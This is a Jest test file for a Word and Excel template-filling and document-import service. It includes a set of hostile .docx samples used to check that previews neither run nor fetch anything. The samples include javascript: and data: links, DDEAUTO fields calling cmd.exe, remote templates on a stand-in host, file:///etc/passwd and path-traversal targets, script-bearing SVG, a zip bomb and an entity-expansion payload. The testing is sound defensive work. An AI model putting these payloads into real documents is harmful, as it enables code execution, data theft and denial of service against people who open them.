import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { deflateRawSync } from 'node:zlib';
import { describe, expect, it } from '@jest/globals';
import { Document, Footer, Header, Packer, Paragraph, Table, TableCell, TableRow, TextRun } from 'docx';
import fc from 'fast-check';
import mammoth from 'mammoth';
import { type Parts, png, zipOf } from '../../../test/sample-files.js';
import { DocumentWorkers } from './document-workers.js';
import { fillDocx, inspectDocx, neededInDocx } from './fill-docx.js';
import { fillXlsx, inspectXlsx } from './fill-xlsx.js';
import { findOutside } from './find-outside.js';
import { importDocx } from './import-docx.js';
import { type FactValues, MissingFacts, vocabularyOf } from './merge-fields.js';
import { parseText } from './parse-text.js';
import { previewDocx } from './preview-docx.js';
import { readAsHtml, readAsText } from './read-docx.js';
import { unpack } from './unpack.js';

const VOCABULARY = vocabularyOf([
  { key: 'organisation_name', kind: 'TEXT' },
  { key: 'registered_address', kind: 'LONG_TEXT' },
  { key: 'employee_count', kind: 'NUMBER' },
  { key: 'legal_as_of', kind: 'DATE' },
  { key: 'charity_number', kind: 'TEXT', optional: true },
  { key: 'has_drivers', kind: 'YES_NO' },
  { key: 'sites', kind: 'LIST', rows: [{ key: 'site_name', kind: 'TEXT' }] },
]);

const FACTS: FactValues = {
  organisation_name: 'Lantern {Yard} <b> & "Co" \u0001',
  registered_address: '1 High Street\nTown',
  employee_count: 12000,
  legal_as_of: '2026-11-23',
  has_drivers: false,
  sites: [{ site_name: 'Hall' }, { site_name: 'Shop' }],
};

const word = (paragraphs: (string | Paragraph | Table)[], header = '', footer = ''): Promise<Buffer> =>
  Packer.toBuffer(
    new Document({
      sections: [
        {
          headers: { default: new Header({ children: [new Paragraph(header)] }) },
          footers: { default: new Footer({ children: [new Paragraph(footer)] }) },
          children: paragraphs.map((one) => (typeof one === 'string' ? new Paragraph(one) : one)),
        },
      ],
    }),
  );

const rawText = async (bytes: Buffer) =>
  (await mammoth.extractRawText({ buffer: bytes })).value.replace(/\n+/g, '\n').trim();
const partOf = (bytes: Buffer, name: string) => unpack(bytes).get(name)?.toString('utf8') ?? '';

describe('A Word template', () => {
  it('is filled in its text, header and footer, and no tag is left', async () => {
    const split = new Paragraph({
      children: [
        new TextRun('To {organi'),
        new TextRun({ text: 'sation_name', bold: true }),
        new TextRun('}.'),
      ],
    });
    const row = new TableRow({
      children: ['{#sites}{site_name}', '{/sites}'].map(
        (text) => new TableCell({ children: [new Paragraph(text)] }),
      ),
    });
    const template = await word(
      [
        ...[
          split,
          '{registered_address}',
          '{employee_count} people, as of {legal_as_of}',
          '{#sites}',
          'At {site_name}',
          '{/sites}',
        ],
        ...[
          '{#has_drivers}Drivers{/has_drivers}{^has_drivers}Walkers{/has_drivers}',
          '{#charity_number}No. {charity_number}{/charity_number}',
        ],
        new Table({ rows: [row] }),
      ],
      'Head {organisation_name}',
      'Foot {legal_as_of}',
    );
    expect(inspectDocx(template, VOCABULARY)).toEqual({
      fields: expect.arrayContaining([
        'organisation_name',
        'registered_address',
        'employee_count',
        'legal_as_of',
        'sites',
        'has_drivers',
        'charity_number',
      ]),
      problems: [],
    });
    const filled = fillDocx(template, FACTS, VOCABULARY);
    expect(await rawText(filled)).toBe(
      [
        ...['To Lantern {Yard} <b> & "Co".', '1 High StreetTown', '12,000 people, as of 23 November 2026'],
        ...['At Hall', 'At Shop', 'Walkers', 'Hall', 'Shop'],
      ].join('\n'),
    );
    expect(partOf(filled, 'word/header1.xml')).toContain('Head Lantern {Yard} &lt;b&gt;');
    expect(partOf(filled, 'word/footer1.xml')).toContain('Foot 23 November 2026');
    expect(partOf(filled, 'word/document.xml')).toMatch(/1 High Street<\/w:t>.*?<w:br\/>.*?Town/);
    // Without a vocabulary values are told by their form.
    expect(await rawText(fillDocx(template, FACTS))).toBe(await rawText(filled));
  });

  it('is not filled while something is missing, and then it is said what', async () => {
    const template = await word([
      '{organisation_name} {#has_drivers}{registered_address}{/has_drivers} {#sites}{site_name}{/sites} {#charity_number}{charity_number}{/charity_number}',
    ]);
    expect(neededInDocx(template, {}, VOCABULARY)).toEqual(['organisation_name', 'has_drivers', 'sites']);
    expect(
      neededInDocx(template, { ...FACTS, has_drivers: true, registered_address: null }, VOCABULARY),
    ).toEqual(['registered_address']);
    expect(neededInDocx(template, { ...FACTS, sites: [{ site_name: '' }] }, VOCABULARY)).toEqual(['sites']);
    expect(() => fillDocx(template, {}, VOCABULARY)).toThrow(
      new MissingFacts(['organisation_name', 'has_drivers', 'sites']),
    );
    expect(() => fillDocx(template, { organisation_name: ' ' })).toThrow(MissingFacts);
    for (const key of ['constructor', 'toString', '__proto__', 'link', 'length']) {
      const odd = await word([`{${key}}`, `{#organisation_name}{${key}}{/organisation_name}`]);
      expect(() => fillDocx(odd, FACTS)).toThrow(/missing|not a field/);
    }
  });

  it.each([
    [
      ['a {organisation_nme} b'],
      '',
      'in the text, near “a {organisation_nme} b”: {organisation_nme} is not a known field. Did you mean {organisation_name}?',
    ],
    [
      ['fine'],
      'Top {organisation',
      'in the header, near “Top {organisation”: A brace is opened here and never closed',
    ],
    [
      ['{#sites} and more'],
      '',
      'in the text, near “{#sites} and more”: {#sites} is opened here and never closed.',
    ],
    [['more {/sites}'], '', 'in the text, near “more {/sites}”: {/sites} closes nothing'],
    [
      ['{#sites}a{/has_drivers}'],
      '',
      'in the text, near “{#sites}a{/has_drivers}”: {/has_drivers} stands where {/sites} is due.',
    ],
    [['organisation_name} x'], '', 'A brace is closed here that was never opened'],
    [['{@organisation_name}'], '', '{@organisation_name} is not a field.'],
    [['{organisation.name}'], '', '{organisation.name} is not a field.'],
    [['{=[[ ]]=}', '[[organisation_name]]'], '', 'A tag cannot change what tags look like.'],
    [['{has_drivers}'], '', '{has_drivers} is a yes or no and cannot be printed.'],
    [['{sites}'], '', '{sites} is a list and cannot be printed.'],
    [['{charity_number}'], '', '{charity_number} may be missing.'],
    [['{site_name}'], '', '{site_name} is not a known field.'],
  ])('has its faults told with their place (%#)', async (paragraphs, header, told) => {
    const template = await word(paragraphs, header);
    const { problems } = inspectDocx(template, VOCABULARY);
    expect(problems.map(({ place, message }) => `${place}: ${message}`).join('\n')).toContain(told);
  });

  it('is filled with whatever values hold, and stays a Word document', async () => {
    const template = await word(['[{organisation_name}]', '{registered_address}'], '{organisation_name}');
    const odd = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 40 }),
      fc.constantFrom('{#sites}', '{/x}', '</w:t>', '&#0;', ']]>', 'x'.repeat(10_000)),
    );
    await fc.assert(
      fc.asyncProperty(odd, odd, async (name, address) => {
        const filled = fillDocx(template, {
          organisation_name: `a${name}`,
          registered_address: `b${address}`,
        });
        expect(await rawText(filled)).toMatch(/^\[a[\s\S]*\]\nb/);
      }),
      { numRuns: 25 },
    );
  });
});

const sheet = (strings: string, inline = ''): Promise<Buffer> =>
  zipOf({
    '[Content_Types].xml': '<Types/>',
    'xl/workbook.xml': '<workbook/>',
    'xl/sharedStrings.xml': `<sst>${strings}</sst>`,
    'xl/worksheets/sheet1.xml': `<worksheet><c t="inlineStr"><is><t>${inline}</t></is></c></worksheet>`,
  });

describe('An Excel form', () => {
  it('is filled in its cells, as text', async () => {
    const form = await sheet(
      '<si><t>For {organisation_name}</t></si><si><t>{charity_number}</t></si>',
      '{legal_as_of}',
    );
    expect(inspectXlsx(form, VOCABULARY)).toEqual({
      fields: ['organisation_name', 'charity_number', 'legal_as_of'],
      problems: [],
    });
    const filled = fillXlsx(form, FACTS, VOCABULARY);
    expect(partOf(filled, 'xl/sharedStrings.xml')).toContain('>For Lantern {Yard} &lt;b&gt; &amp; "Co"</t>');
    expect(partOf(filled, 'xl/worksheets/sheet1.xml')).toContain('>23 November 2026</t>');
    expect(() => fillXlsx(form, {}, VOCABULARY)).toThrow(
      new MissingFacts(['organisation_name', 'legal_as_of']),
    );
    const wrong = await sheet(
      '<si><t>{organisation_nme} {#sites}</t></si><si><r><t>{organi</t></r><r><t>sation_name}</t></r></si>',
    );
    expect(inspectXlsx(wrong, VOCABULARY).problems.map(({ message }) => message)).toEqual([
      '{organisation_nme} is not a known field. Did you mean {organisation_name}?',
      expect.stringContaining('{#sites} cannot stand in a sheet'),
      expect.stringContaining('A brace is opened here'),
    ]);
    expect(() => fillXlsx(wrong, FACTS, VOCABULARY)).toThrow('organisation_nme');
  });
});

// ------------------------------------------------------------------ hostile documents

const NAMESPACES =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const text = (words: string) => `<w:p><w:r><w:t xml:space="preserve">${words}</w:t></w:r></w:p>`;
const link = (id: string) =>
  `<w:p><w:hyperlink r:id="${id}"><w:r><w:t>press here</w:t></w:r></w:hyperlink></w:p>`;
const field = (code: string) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>press here</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const picture = (attributes: string) =>
  `<w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" name="x" descr="&quot; onerror=&quot;alert(1)"/><a:graphic><a:graphicData uri="x"><pic:pic><pic:blipFill><a:blip ${attributes}/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;

interface Made {
  body: string;
  relations?: string;
  parts?: Parts;
}

function made({ body, relations = '', parts = {} }: Made): Promise<Buffer> {
  const types =
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="png" ContentType="image/png"/><Default Extension="svg" ContentType="image/svg+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
  const wrap = (all: string) =>
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all}</Relationships>`;
  return zipOf({
    '[Content_Types].xml': types,
    '_rels/.rels': wrap(`<Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="word/document.xml"/>`),
    'word/_rels/document.xml.rels': wrap(relations),
    'word/document.xml': `<?xml version="1.0"?><w:document ${NAMESPACES}><w:body>${text('Harmless words')}${body}</w:body></w:document>`,
    ...parts,
  });
}

const to = (type: string, target: string, mode = ' TargetMode="External"') =>
  `<Relationship Id="x1" Type="${OFFICE}/${type}" Target="${target}"${mode}/>`;
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';

const settings = (target: string): Parts => ({
  'word/_rels/settings.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="${OFFICE}/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
});

describe('A form', () => {
  it.each<[string, Made]>([
    ['a picture', { body: picture('r:link="x1"'), relations: to('image', 'https://spy.example/a.png') }],
    ['a picture on a share', { body: '', relations: to('image', '\\\\spy.example\\a.png') }],
    ['a picture on a share by its address', { body: '', relations: to('image', 'file://spy.example/a.png') }],
    ['a template', { body: '', parts: settings('https://spy.example/evil.dotm') }],
    [
      'a template whose address is hidden',
      { body: '', parts: settings('&#104;ttps://spy.example/evil.dotm') },
    ],
    ['a page', { body: '', relations: to('frame', 'http://spy.example/') }],
    ['by a field', { body: field(' INCLUDEPICTURE "https://spy.example/a.png"') }],
    ['by a program', { body: field('DDEAUTO c:\\windows\\system32\\cmd.exe') }],
  ])('that fetches something when it is opened is told: %s', async (_, form) => {
    expect(findOutside(await made(form)).map(({ place }) => place)).toEqual(['in the file']);
  });

  it('may link to pages, and know where its template was', async () => {
    const form = { body: link('x1'), relations: to('hyperlink', 'https://www.hse.gov.uk/') };
    expect(findOutside(await made(form))).toEqual([]);
    const parts = settings('file:///C:/Users/me/AppData/Roaming/Microsoft/Templates/Normal.dotm');
    expect(findOutside(await made({ body: '', parts }))).toEqual([]);
  });

  it('with a list within a list would have no end, and is told', async () => {
    const { problems } = inspectDocx(
      await made({ body: text('{#sites}{#sites}x{/sites}{/sites}') }),
      VOCABULARY,
    );
    expect(problems.map(({ message }) => message)).toEqual([
      '{#sites} is a list within a list. Close the first one before it.',
    ]);
  });
});

/** Documents that would run or fetch something, by what they try; HERE is an address that must not be asked. */
const HOSTILE: Record<string, Made> = {
  'a javascript: link': { body: link('x1'), relations: to('hyperlink', 'javascript:alert(1)') },
  'a javascript: link in disguise': {
    body: link('x1'),
    relations: to('hyperlink', 'JaVa&#115;cript&#58;alert(1)'),
  },
  'a javascript: link with a line break': {
    body: link('x1'),
    relations: to('hyperlink', 'java&#10;script:alert(1)'),
  },
  'a data: link': {
    body: link('x1'),
    relations: to('hyperlink', 'data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;'),
  },
  'a vbscript: link': { body: link('x1'), relations: to('hyperlink', 'vbscript:msgbox(1)') },
  'a file: link': { body: link('x1'), relations: to('hyperlink', 'file:///etc/passwd') },
  'a link that breaks out of its quotes': {
    body: link('x1'),
    relations: to('hyperlink', 'https://x.example/&quot; onclick=&quot;alert(1)'),
  },
  'a HYPERLINK field': { body: field('HYPERLINK "javascript:alert(1)"') },
  'an INCLUDETEXT field': { body: field('INCLUDETEXT "HERE/text"') },
  'an INCLUDEPICTURE field': { body: field('INCLUDEPICTURE "HERE/picture.png" \\d') },
  'a DDE field': { body: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"') },
  'an altChunk of HTML': {
    body: '<w:altChunk r:id="x1"/>',
    relations: to('aFChunk', 'chunk.html', ''),
    parts: { 'word/chunk.html': '<script>alert(1)</script>' },
  },
  'an altChunk of MHTML': {
    body: '<w:altChunk r:id="x1"/>',
    relations: to('aFChunk', 'chunk.mht', ''),
    parts: { 'word/chunk.mht': 'MIME-Version: 1.0\nContent-Type: text/html\n\n<img src=x onerror=alert(1)>' },
  },
  'HTML in its words': {
    body: text('&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;'),
  },
  'HTML in the name of a style': {
    body: '<w:p><w:pPr><w:pStyle w:val="x&quot;&gt;&lt;script&gt;"/></w:pPr><w:r><w:t>styled</w:t></w:r></w:p>',
  },
  'a style map of its own': {
    body: text('mapped'),
    parts: { 'mammoth/style-map': 'p => script:fresh' },
  },
  'an onerror attribute in alternative text': {
    body: picture('r:embed="x1"'),
    relations: to('image', 'media/a.png', ''),
    parts: { 'word/media/a.png': png() },
  },
  'a picture that is SVG': {
    body: picture('r:embed="x1"'),
    relations: to('image', 'media/a.svg', ''),
    parts: { 'word/media/a.svg': SVG },
  },
  'SVG named PNG': {
    body: picture('r:embed="x1"'),
    relations: to('image', 'media/a.png', ''),
    parts: { 'word/media/a.png': SVG },
  },
  'a picture from elsewhere': { body: picture('r:link="x1"'), relations: to('image', 'HERE/a.png') },
  'a picture from a file of the server': {
    body: picture('r:link="x1"'),
    relations: to('image', 'file:///etc/passwd'),
  },
  'a picture from outside the package': {
    body: picture('r:embed="x1"'),
    relations: to('image', '../../../../etc/passwd', ''),
  },
  'a template from elsewhere': {
    body: '',
    parts: {
      'word/settings.xml': `<w:settings ${NAMESPACES}><w:attachedTemplate r:id="t"/></w:settings>`,
      'word/_rels/settings.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="${OFFICE}/attachedTemplate" Target="HERE/evil.dotm" TargetMode="External"/></Relationships>`,
    },
  },
  'a VML picture from elsewhere': {
    body: '<w:p><w:r><w:pict><v:shape onclick="alert(1)" href="javascript:alert(1)"><v:imagedata r:id="x1" o:href="HERE/a.png"/></v:shape></w:pict></w:r></w:p>',
    relations: to('image', 'HERE/a.png'),
  },
  'an embedded object': {
    body: '<w:p><w:r><w:object><o:OLEObject Type="Link" r:id="x1"/></w:object></w:r></w:p>',
    relations: to('oleObject', 'HERE/object'),
  },
  'a bookmark that takes the place of something': {
    body: '<w:p><w:bookmarkStart w:id="1" w:name="location"/><w:r><w:t>here</w:t></w:r><w:bookmarkEnd w:id="1"/></w:p>',
  },
  'a relationship with a name of the language': {
    body: '<w:p><w:hyperlink r:id="__proto__"><w:r><w:t>press here</w:t></w:r></w:hyperlink></w:p>',
    relations: `<Relationship Id="__proto__" Type="${OFFICE}/hyperlink" Target="javascript:alert(1)" TargetMode="External"/>`,
  },
};

/** What of HTML could run, fetch or take the place of something. */
function dangersIn(html: string): string[] {
  const tags = [...html.matchAll(/<\/?([a-z0-9]+)([^>]*)>/gi)];
  return tags.flatMap(([whole, tag = '', attributes = '']) => {
    const isPlain =
      /^(?:h[1-6]|p|br|ul|ol|li|blockquote|table|thead|tbody|tr|th|td|strong|em|u|s|sup|sub|a|img)$/.test(
        tag,
      );
    const isWell = [...attributes.matchAll(/([\w-]+)="([^"]*)"/g)].every(([, name = '', value = '']) =>
      name === 'href'
        ? /^(?:https?:\/\/|mailto:)/.test(value)
        : name === 'src'
          ? /^data:image\/(?:png|jpeg|gif);base64,[\w+/=]+$/.test(value)
          : ['rel', 'alt', 'colspan', 'rowspan'].includes(name),
    );
    return isPlain && isWell ? [] : [whole];
  });
}

describe('A hostile Word document', () => {
  it.each(Object.keys(HOSTILE))('is shown without harm: %s', async (name) => {
    const asked: string[] = [];
    const server = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.end('fetched');
    }).listen(0, '127.0.0.1');
    await new Promise((resolve) => server.once('listening', resolve));
    const here = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const { body, relations = '', parts = {} } = HOSTILE[name] ?? { body: '' };
    const bytes = await made({
      body: body.replaceAll('HERE', here),
      relations: relations.replaceAll('HERE', here),
      parts: Object.fromEntries(
        Object.entries(parts).map(([part, content]) => [
          part,
          typeof content === 'string' ? content.replaceAll('HERE', here) : content,
        ]),
      ),
    });
    const { html } = await readAsHtml(bytes);
    expect(html).toContain('Harmless words');
    expect(dangersIn(html)).toEqual([]);
    expect(html).not.toMatch(/root:.*:0:0|fetched/);
    const { markdown } = await readAsText(bytes);
    expect(parseText(markdown, VOCABULARY).problems).toEqual([]);
    expect(asked).toEqual([]);
    await new Promise((resolve) => server.close(resolve));
  });

  it('is refused when it is none, lies about its size, or is built to be slow', async () => {
    const bomb = await made({
      body: '',
      parts: { 'word/styles.xml': Buffer.alloc(200 * 1024 * 1024, 0x20) },
    });
    const laughs = await made({
      body: '',
      parts: { 'word/styles.xml': '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>' },
    });
    const deep = await made({
      body: `${'<w:sdt><w:sdtContent>'.repeat(30_000)}${'</w:sdtContent></w:sdt>'.repeat(30_000)}`,
    });
    const broken = await made({ body: '<w:p><w:r>' });
    for (const bytes of [
      bomb,
      laughs,
      deep,
      broken,
      Buffer.from('<html></html>'),
      Buffer.alloc(0),
      await zipOf({ a: 'b' }),
    ]) {
      const refused = await readAsHtml(bytes).then(
        () => 'shown',
        (error: Error) => error.message,
      );
      expect(refused).toMatch(/^This (?:document|is no)|^shown$/);
    }
    await expect(previewDocx(bomb)).rejects.toThrow('too large');
    await expect(importDocx(laughs)).rejects.toThrow('damaged');
  });

  it('is given up after its time, and the next one is shown', async () => {
    const hurried = new DocumentWorkers(1, { milliseconds: 1, megabytes: 256 }, false);
    const bytes = await made({ body: text('more').repeat(20_000) });
    await expect(hurried.run({ kind: 'PREVIEW', bytes })).rejects.toThrow('takes too long');
    const small = new DocumentWorkers(1, { milliseconds: 20_000, megabytes: 6 }, false);
    await expect(small.run({ kind: 'PREVIEW', bytes })).rejects.toThrow('too much memory');
    await expect(previewDocx(await made({ body: '' }))).resolves.toMatchObject({
      html: '<p>Harmless words</p>',
    });
  });

  it('and mutated bytes never bring anything but a refusal in words, or harmless HTML', async () => {
    const whole = await made({
      body: link('x1') + text('more words'),
      relations: to('hyperlink', 'https://x.example/'),
    });
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { minLength: 1, maxLength: 6 }),
        async (changes) => {
          const bytes = Buffer.from(whole);
          for (const [at, value] of changes) bytes[at] = value;
          const html = await readAsHtml(bytes).then(
            ({ html }) => html,
            (error: Error) => {
              expect(error.name).toBe('DamagedDocument');
              return '';
            },
          );
          expect(dangersIn(html)).toEqual([]);
        },
      ),
      { numRuns: 200 },
    );
    expect(() => unpack(Buffer.concat([deflateRawSync('x'), Buffer.from('PK\x05\x06')]))).toThrow('damaged');
  });
});

describe('A Word document becomes a text', () => {
  it('that a template can be made of, with what was lost', async () => {
    const cell = (words: string, span = 1) =>
      new TableCell({ columnSpan: span, children: [new Paragraph(words)] });
    const bytes = await word(
      [
        new Paragraph({ text: 'Sickness policy', heading: 'Heading1' }),
        new Paragraph({ text: 'Reporting', heading: 'Heading2' }),
        'Dear {organisation_name}, 1 < 2 & {odd one} *stars* _lines_ &amp; # no heading',
        '# no heading either',
        new Paragraph({ text: 'one', bullet: { level: 0 } }),
        new Paragraph({ text: 'under one', bullet: { level: 1 } }),
        new Table({
          rows: [
            new TableRow({ tableHeader: true, children: [cell('A|B'), cell('C')] }),
            new TableRow({ children: [cell('wide', 2)] }),
          ],
        }),
        'Signed: ____________________',
      ],
      'On top',
    );
    const { markdown, lost } = await importDocx(bytes);
    expect(markdown).toBe(
      [
        '## Reporting',
        'Dear {organisation_name}, 1 \\< 2 & \\{odd one} \\*stars\\* \\_lines\\_ \\&amp; # no heading',
        '\\# no heading either',
        '- one\n    - under one',
        '| A\\|B | C |\n| --- | --- |\n| wide |  |',
        'Signed: ____________________\n',
      ].join('\n\n'),
    );
    expect(lost.join('\n')).toMatch(
      /Headers and footers[\s\S]*Merged cells[\s\S]*The title “Sickness policy”/,
    );
    expect(parseText(markdown, VOCABULARY).problems).toEqual([]);
  });
});
